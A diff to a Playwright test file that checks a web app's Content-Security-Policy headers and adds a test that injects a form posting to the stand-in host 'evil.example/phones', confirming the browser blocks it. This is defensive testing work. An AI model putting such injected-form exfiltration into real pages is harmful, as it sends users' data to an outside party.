@@ -74,9 +74,26 @@ test('every page tells the browser so', async () => {
     const headers = (await page.request.get(`${koi.server.url}${path}`, { headers: { accept: 'text/html' } })).headers()
     expect([path, headers['content-type'], headers['x-content-type-options']]).toEqual([path, 'text/html; charset=utf-8', 'nosniff'])
     const policy = headers['content-security-policy']?.split('; ')
-    expect(policy, path).toEqual(expect.arrayContaining(["default-src 'self'", "object-src 'none'", "base-uri 'none'", "require-trusted-types-for 'script'", 'trusted-types vue']))
+    expect(policy, path).toEqual(expect.arrayContaining(["default-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'self'", "require-trusted-types-for 'script'", 'trusted-types vue']))
     expect(policy, path).toContain("frame-ancestors 'self' https://*.weixin.qq.com https://*.work.weixin.qq.com")
   }
   const docs = (await page.request.get(`${koi.server.url}/api/docs/static/index.html`)).headers()
-  expect(docs['content-security-policy']).toMatch(/script-src 'self'(?! 'unsafe)/)
+  expect(docs['content-security-policy']!.split('; ')).toEqual(expect.arrayContaining(["script-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'none'"]))
+})
+
+/** Makes a form to another site and sends it, as words would that had become elements; what the browser says of it. */
+const sendFormElsewhere = () =>
+  new Promise<string>((resolve) => {
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective), { once: true })
+    const form = document.body.appendChild(document.createElement('form'))
+    form.method = 'post'
+    form.action = 'https://evil.example/phones'
+    form.submit()
+  })
+
+test('a form that somebody put into a page sends nothing to another site', async () => {
+  const { page } = await holdPhone(koi, 'cust-01', { expected: REFUSED })
+  await page.getByRole('heading', { name: '活动规则' }).waitFor()
+  expect(await page.evaluate(sendFormElsewhere)).toBe('form-action')
+  expect(new URL(page.url()).host).toBe(new URL(koi.server.url).host)
 })
